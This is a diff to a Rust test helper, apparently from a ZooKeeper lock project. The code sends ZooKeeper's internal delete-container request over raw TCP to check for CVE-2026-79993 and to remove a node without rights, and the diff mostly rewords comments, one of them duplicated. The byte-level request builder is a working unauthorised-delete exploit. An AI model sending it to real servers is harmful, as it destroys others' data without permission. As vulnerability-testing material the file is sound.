@@ -1,4 +1,8 @@
-//! A client that has no rights, and deletes nodes all the same.
+//! A client without rights that deletes nodes. A server with CVE-2026-79993 lets any connection delete a node by the
+//! request that removes containers. Use it to find out whether a server has that fault, and to remove a node as an
+//! attacker can.
+//! request that removes containers. Use it to see whether a server has that fault, and to remove a node as an attacker
+//! can.
 
 use std::io::{self, Read, Write};
 use std::net::TcpStream;
@@ -9,10 +13,10 @@ use zk_rwlock::coordinator::{Failure, Session};
 use super::frames::{Hello, framed};
 use super::server::Server;
 
-/// ZooKeeper's own request to remove a container.
+/// ZooKeeper's internal request to remove a container.
 const DELETE_CONTAINER: i32 = 20;
 
-/// Whether a server deletes this node for a connection that does no more than ask. (CVE-2026-79993)
+/// Returns whether the server deletes this node for a connection that only asks (CVE-2026-79993).
 pub fn deletes(server: &Server, path: &str) -> bool {
     let mut stream = TcpStream::connect(server.address()).expect("it listens");
     stream.set_read_timeout(Some(Duration::from_secs(20))).expect("a limit");
@@ -22,11 +26,12 @@ pub fn deletes(server: &Server, path: &str) -> bool {
     let (xid, kind) = (1_i32.to_be_bytes(), DELETE_CONTAINER.to_be_bytes());
     let request = [&xid[..], &kind, &length.to_be_bytes(), path.as_bytes()].concat();
     stream.write_all(&framed(&request)).expect("it reads");
-    // Behind the xid and the zxid is what went wrong. Newer servers close the connection.
+    // The error code follows the xid and the zxid. Newer servers close the connection.
     answer(&mut stream).is_ok_and(|reply| reply[12..16] == [0; 4])
 }
 
-/// Has a persistent node without children vanish: by that request, or on servers that refuse it as any client can that may.
+/// Removes a persistent node without children: by that request, or by an ordinary delete on servers that refuse the
+/// request.
 pub async fn remove_node(server: &Server, session: &dyn Session, path: &str) {
     if !deletes(server, path) {
         session.delete(path).await.expect("it may");
